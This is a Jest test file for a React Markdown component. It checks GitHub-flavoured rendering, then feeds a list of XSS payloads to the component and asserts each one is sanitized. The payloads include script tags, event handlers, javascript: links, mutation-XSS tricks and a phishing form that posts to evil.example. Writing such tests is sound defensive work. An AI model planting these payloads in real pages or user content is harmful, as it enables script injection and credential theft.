import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { Markdown } from './markdown';

const place = { repository: { owner: 'ada', name: 'orchard' }, gitRef: 'main', path: 'README.md' };
const render = (source: string) => renderToStaticMarkup(createElement(Markdown, { source, place }));

describe('Markdown', () => {
  it('renders GitHub flavoured text', () => {
    const html = render('# A title\n\n~~old~~ **new** https://example.org\n\n- [x] done\n');
    expect(html).toContain('<h1 id="user-content-a-title">A title</h1>');
    expect(html).toContain('<del>old</del> <strong>new</strong>');
    expect(html).toContain('<a href="https://example.org/" rel="nofollow noopener">https://example.org</a>');
    expect(html).toMatch(/<input type="checkbox"[^>]*disabled[^>]*aria-label="Done"[^>]*checked/);
  });

  it('colours code', () => {
    expect(render('```ts\nconst a = 1;\n```')).toContain('<span class="hljs-keyword">const</span>');
  });

  it('aligns columns without inline styles', () => {
    const html = render('| a | b |\n|--:|:-:|\n| 1 | 2 |\n');
    expect(html).toContain('<td class="align-right">1</td>');
    expect(html).toContain('<th scope="col" class="align-center">b</th>');
    expect(html).not.toContain('style=');
  });

  it('leads footnotes there and back', () => {
    const html = render('Text[^1].\n\n[^1]: Note.');
    const target = /href="#(user-content-fn-1)"/.exec(html)?.[1];
    expect(html).toContain(`id="${target}"`);
    const back = /href="#(user-content-fnref-1)"/.exec(html)?.[1];
    expect(html).toContain(`id="${back}"`);
  });

  it('resolves relative links and images to the same ref', () => {
    const html = render('[guide](docs/guide.md#setup) ![a](img/a%20b.png) <img src="img/c.png">');
    expect(html).toContain('href="/ada/orchard/-/blob/main/docs/guide.md#user-content-setup"');
    expect(html).toContain('src="/ada/orchard/-/raw/main/img/a%20b.png"');
    expect(html).toContain('src="/ada/orchard/-/raw/main/img/c.png"');
  });
});

describe('hostile Markdown', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](  JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '[x]: vbscript:alert(1)\n\n[x]',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details ontoggle=alert(1) open>x</details>',
    '<div class="fixed inset-0">x</div>',
    '<picture><source srcset="https://evil.example/x"><img src="a.png"></picture>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<textarea></textarea><select></select><button formaction="javascript:alert(1)">x</button>',
    '<!--><img src=x onerror=alert(1)>-->',
  ];

  it.each(HOSTILE)('disarms %s', (source) => {
    const html = render(source);
    expect(html).not.toMatch(
      /<(script|style|form|svg|math|iframe|object|embed|base|meta|link|textarea|select|button|source|template)\b/i,
    );
    const attributes = html.replace(/"[^"]*"/g, '""');
    expect(attributes).not.toMatch(/<[^>]*\s(on\w+|style|srcset|formaction|action)\s*=/i);
    expect(html).not.toMatch(/(href|src)="\s*(javascript|data|vbscript):/i);
    expect(html).not.toMatch(/class="[^"]*(fixed|inset)/);
  });

  it('prefixes ids, so that no name of the page is shadowed', () => {
    const html = render('<h2 id="content">x</h2><a name="location" id="cookie">y</a>');
    expect(html).not.toMatch(/(id|name)="(content|location|cookie)"/);
  });
});
